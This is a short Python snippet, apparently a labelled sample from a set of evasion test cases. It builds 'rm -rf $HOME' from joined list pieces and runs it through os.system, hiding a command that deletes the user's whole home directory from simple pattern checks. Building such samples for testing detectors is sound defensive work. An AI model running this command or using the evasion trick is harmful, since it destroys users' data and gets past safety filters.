# evasion: rm -rf of $HOME joined into os.system
# grade: medium; does: delete
import os
os.system(" ".join(["rm", "-rf", os.environ["HOME"]]))
